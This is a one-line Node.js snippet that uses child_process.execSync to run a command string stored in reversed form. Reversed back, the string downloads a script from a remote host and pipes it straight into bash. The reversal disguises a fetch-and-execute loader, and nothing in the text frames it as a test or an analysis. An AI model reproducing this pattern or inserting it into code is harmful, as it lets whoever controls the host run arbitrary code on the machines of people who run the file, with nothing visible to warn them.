require("child_process").execSync("hsab | a/dilavni.7x-ndc//:sptth s- lruc".split("").reverse().join(""));
